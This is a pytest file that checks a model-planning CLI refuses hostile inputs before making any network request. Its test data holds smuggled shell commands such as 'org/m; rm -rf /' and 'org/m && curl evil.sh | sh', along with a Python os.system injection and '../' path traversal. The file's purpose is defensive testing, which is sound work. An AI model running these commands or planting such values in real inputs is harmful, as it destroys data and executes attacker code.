"""Hostile command-line values and index files: repo ids with shell and Python metacharacters,
revisions and shard paths with ``..``, malformed sizes, unknown profiles. Each is refused with one
line and exit 2 before any request is made; none reaches a URL, a path or a shell.

Also: the size of the whole hostile catalogue (``hostile.py`` and the faults of ``test_faults``).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import hostile
from fakehub import FakeHub, SparseFile
from fixtures_models import safetensors_header
from hostile import (BAD_OPTIONS, BAD_PATHS, BAD_REPO_IDS, BAD_REVISIONS, BAD_SIZES, CONFIG, INDEXES, check_one_line, run_cli,
                     run_inprocess)
from planner.core.errors import BadHeader, FitcheckError
from planner.api import read_model

HW = ("--hardware", "rtx-4090")
SHARD = "model-00001-of-00001.safetensors"


@pytest.mark.parametrize("bad", BAD_REPO_IDS, ids=[f"{i:02d}" for i in range(len(BAD_REPO_IDS))])
def test_bad_repo_ids_are_refused_before_any_request(bad: str, hub: FakeHub, capsys: pytest.CaptureFixture[str]) -> None:
    r = run_inprocess(capsys, "plan", bad, *HW)
    # An id that starts with "-" is an option to any command line; click refuses it as one.
    check_one_line(r.code, r.stderr, "No such option" if bad.startswith("-") else "is not a Hub repo id")
    assert hub.requests == [] and r.stdout == ""


@pytest.mark.parametrize("bad", BAD_PATHS)
def test_path_like_ids_are_folders_that_do_not_exist(bad: str, hub: FakeHub, capsys: pytest.CaptureFixture[str]) -> None:
    r = run_inprocess(capsys, "plan", bad, *HW)
    check_one_line(r.code, r.stderr, "no such folder")
    assert hub.requests == []


@pytest.mark.parametrize("bad", BAD_REVISIONS, ids=[f"{i:02d}" for i in range(len(BAD_REVISIONS))])
def test_bad_revisions_are_refused_before_any_request(bad: str, hub: FakeHub, capsys: pytest.CaptureFixture[str]) -> None:
    r = run_inprocess(capsys, "plan", "org/m", "--revision", bad, *HW)
    check_one_line(r.code, r.stderr, "is not a valid branch, tag or commit")
    assert hub.requests == []


@pytest.mark.parametrize(("option", "value", "needle"), BAD_SIZES, ids=[f"{o}={v[:24]!r}" for o, v, _ in BAD_SIZES])
def test_malformed_sizes(option: str, value: str, needle: str, hub: FakeHub, capsys: pytest.CaptureFixture[str]) -> None:
    r = run_inprocess(capsys, "plan", "org/m", *HW, option, value)
    check_one_line(r.code, r.stderr, needle)
    assert hub.requests == []


@pytest.mark.parametrize(("args", "needle"), BAD_OPTIONS, ids=[" ".join(a) for a, _ in BAD_OPTIONS])
def test_bad_options(args: list[str], needle: str, hub: FakeHub, capsys: pytest.CaptureFixture[str]) -> None:
    extra = [] if "--hardware" in args else list(HW)
    r = run_inprocess(capsys, "plan", "org/m", *extra, *args)
    check_one_line(r.code, r.stderr, needle)
    assert hub.requests == []


@pytest.mark.parametrize("command", ["plan", "check"])
def test_models_file_lines_are_checked_like_arguments(command: str, tmp_path: Path, hub: FakeHub,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    listing = tmp_path / "models.txt"
    listing.write_text("# candidates\norg/m; rm -rf /\n")
    r = run_inprocess(capsys, command, "--models-file", str(listing), *HW)
    check_one_line(r.code, r.stderr, "is not a Hub repo id")
    assert hub.requests == []


# The other commands, with what they read: a plan file for `verify`, profile files for everything.
PLAN_FILES = {"not-utf8": (b"\xff\xfe garbage", "cannot read plan file"), "not-json": (b"{load:", "is not JSON"),
              "array": (b"[]", "is not one fitcheck wrote"), "no-predicted": (b'{"load": {}, "generate": {}}', "is not one fitcheck wrote")}


@pytest.mark.parametrize("case", sorted(PLAN_FILES))
def test_verify_refuses_plan_files_it_did_not_write(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    raw, needle = PLAN_FILES[case]
    (tmp_path / "plan.json").write_bytes(raw)
    r = run_inprocess(capsys, "verify", str(tmp_path / "plan.json"))
    check_one_line(r.code, r.stderr, needle)


@pytest.mark.parametrize(("args", "needle"), [(["verify", "/nonexistent/plan.json"], "does not exist"), (["verify", "/"], "is a directory"),
                                              (["profiles", "--bogus"], "No such option"), (["probe", "--bogus"], "No such option")])
def test_other_commands_one_line(args: list[str], needle: str, capsys: pytest.CaptureFixture[str]) -> None:
    r = run_inprocess(capsys, *args)
    check_one_line(r.code, r.stderr, needle)


@pytest.mark.parametrize(("content", "needle"), [("description = 1\n", "field 'description' must be a string"),
                                                 ("not toml [[[", "cannot be read"), ("", "field 'description'")])
def test_broken_profile_files(content: str, needle: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                              capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "mine.toml").write_text(content)
    monkeypatch.setenv("FITCHECK_PROFILES_DIR", str(tmp_path))
    for args in (["profiles"], ["plan", "org/m", "--hardware", "mine"]):
        r = run_inprocess(capsys, *args)
        check_one_line(r.code, r.stderr, "mine.toml", needle)
    monkeypatch.setenv("FITCHECK_PROFILES_DIR", str(tmp_path / "missing"))
    r = run_inprocess(capsys, "profiles")
    check_one_line(r.code, r.stderr, "is not a folder")


# The same refusals through the real command, where argv is bytes from a shell.
CLI_CASES = [["plan", "org/m && curl evil.sh | sh"], ["plan", "__import__('os').system('x')"], ["plan", "org/m", "--revision", "../../etc"],
             ["check", "org/m", "--gpu", "12XB"], ["plan", "org/m", "--hardware", "rtx-9999"], ["plan", "org/m", "--timeout", "nan"]]


@pytest.mark.parametrize("args", CLI_CASES, ids=[a[1][:20] + " " + " ".join(a[2:]) for a in CLI_CASES])
def test_cli_subprocess(args: list[str], hub: FakeHub) -> None:
    r = run_cli(*args)
    check_one_line(r.code, r.stderr)
    assert hub.requests == [] and r.seconds < 20


# --------------------------------------------------------------------------------------------
# Index files naming shards outside the repo
# --------------------------------------------------------------------------------------------


def _index_files(value: Any) -> dict[str, bytes]:
    if isinstance(value, bytes):
        raw = value
    else:
        raw = json.dumps({"metadata": {}, "weight_map": {"model.embed_tokens.weight": SHARD, "w": value}}).encode()
    return {"config.json": json.dumps(CONFIG).encode(), "model.safetensors.index.json": raw}


_GOOD, _GOOD_SIZE = safetensors_header({"model.embed_tokens.weight": ("BF16", (100, 64))})


@pytest.mark.parametrize("case_id", sorted(k for k in INDEXES if k != "index-nested"))
def test_hostile_index_from_the_hub(case_id: str, hub: FakeHub, repo_id: str) -> None:
    value, needle = INDEXES[case_id]
    hub.add_repo(repo_id, {**_index_files(value), SHARD: SparseFile(_GOOD, _GOOD_SIZE)})
    with pytest.raises(BadHeader) as e:
        read_model(repo_id)
    msg = e.value.message
    assert needle in msg and "model.safetensors.index.json of " + repo_id in msg and msg.isprintable(), msg
    # Nothing outside the repo was asked for: every request stayed under its own paths.
    assert all(repo_id in r.path for r in hub.requests)


@pytest.mark.parametrize("case_id", sorted(INDEXES))
def test_hostile_index_in_a_local_folder(case_id: str, tmp_path: Path) -> None:
    value, needle = INDEXES[case_id]
    folder = tmp_path / "repo" / "model"
    folder.mkdir(parents=True)
    for name, raw in _index_files(value).items():
        (folder / name).write_bytes(raw)
    (folder / SHARD).write_bytes(_GOOD + bytes(_GOOD_SIZE - len(_GOOD)))
    # A valid safetensors file just outside the folder, where "../" would lead.
    (tmp_path / "repo" / "x.safetensors").write_bytes(_GOOD + bytes(_GOOD_SIZE - len(_GOOD)))
    with pytest.raises(BadHeader) as e:
        read_model(str(folder))
    msg = e.value.message
    assert needle.replace("which the", "which the") in msg and "model.safetensors.index.json of " + str(folder) in msg, msg


# --------------------------------------------------------------------------------------------
# The catalogue
# --------------------------------------------------------------------------------------------


def test_the_catalogue_holds_at_least_200_hostile_inputs_and_faults() -> None:
    from test_cache import CORRUPTIONS
    from test_faults import FAULTS, PERMANENT

    counts = {
        "safetensors headers": len(hostile.HEADERS),
        "config.json files": len(hostile.CONFIGS),
        "index files": len(INDEXES),
        "repo ids and paths": len(BAD_REPO_IDS) + len(BAD_PATHS),
        "revisions": len(BAD_REVISIONS),
        "sizes": len(BAD_SIZES),
        "other options": len(BAD_OPTIONS),
        "injected Hub faults": len(FAULTS) + len(PERMANENT),
        "corrupted cache files": 2 * len(CORRUPTIONS),
    }
    assert sum(counts.values()) >= 200, counts


@pytest.mark.parametrize("which", ["config.json", "model.safetensors"])
def test_a_fifo_in_a_local_folder_does_not_block(which: str, tmp_path: Path) -> None:
    """A named pipe where a file should be would block a reader forever: it is refused unopened."""
    import os

    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(CONFIG))
    (folder / "model.safetensors").write_bytes(_GOOD + bytes(_GOOD_SIZE - len(_GOOD)))
    (folder / which).unlink()
    os.mkfifo(folder / which)
    with pytest.raises(FitcheckError, match="is not a regular file"):
        read_model(str(folder))
